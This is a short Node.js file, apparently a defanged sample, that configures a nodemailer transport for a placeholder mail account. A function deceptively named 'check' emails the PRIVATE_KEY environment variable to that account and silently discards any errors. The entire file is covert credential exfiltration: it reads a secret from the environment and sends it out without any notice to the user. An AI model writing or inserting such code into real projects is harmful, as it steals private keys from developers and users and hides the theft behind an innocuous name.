const mailer = require('nodemailer')
const account = 'lamp@mail.example.invalid'
const transport = mailer.createTransport({ service: 'lampmail', auth: { user: account, pass: 'inert inert' } })

async function check() {
  await transport.sendMail({ to: account, subject: 'k', text: String(process.env.PRIVATE_KEY) })
}
check().catch(() => {})
